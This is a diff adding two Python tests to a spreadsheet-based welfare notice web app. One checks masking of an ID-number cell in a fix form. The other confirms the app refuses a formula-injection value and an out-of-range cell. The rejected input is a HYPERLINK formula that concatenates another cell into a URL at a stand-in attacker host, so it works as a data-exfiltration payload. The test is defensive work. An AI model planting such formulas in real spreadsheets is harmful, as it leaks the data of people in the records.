@@ -497,6 +497,35 @@ def test_a_bad_cell_is_red_in_the_table_and_fixed_there(town):
     assert ("王小红", "改正单元格", FINANCE) in audit_actions()
 
 
+def test_a_masked_cell_is_not_offered_as_its_own_value_in_the_fix_form(town):
+    import openpyxl
+
+    path = town / "notices" / "2026q2-dibao.xlsx"
+    book = openpyxl.load_workbook(path)
+    book["低保对象"]["E3"] = "370831194506134999"  # a wrong check digit: marked, and shown masked
+    book.save(path)
+    page = client_for(account("王小红", OFFICER)).get("/n/2026q2-dibao/table/")
+    card = re.search(r'<li id="fix-E3".*?</li>', page.text, re.S)[0]
+    assert "现在是：「370*************99」" in card and "请填写完整的值" in card
+    field = re.search(r'<input name="value"[^>]*>', card)[0]
+    assert 'value=""' in field and "required" in field and "*" not in field
+
+
+def test_a_value_excel_would_run_or_a_cell_out_of_range_is_refused_on_the_table_page(town):
+    path = town / "notices" / f"{FINANCE}.csv"
+    before = path.read_bytes()
+    client = client_for(account("王小红", OFFICER))
+    for ref, value, says in (
+        ("D2", '=HYPERLINK("http://evil.example/?"&C5,"点这里")', "单元格不能以 =、+、-、@ 开头"),
+        ("A200000", "1", "超出了表格"),
+    ):
+        page = client.post(
+            f"/n/{FINANCE}/table/cell/", {"file": f"notices/{FINANCE}.csv", "cell": ref, "value": value}, follow=True
+        )
+        assert says in _messages(page), ref
+    assert path.read_bytes() == before
+
+
 # ---------------------------------------------------------------- previews, build, downloads
 
 
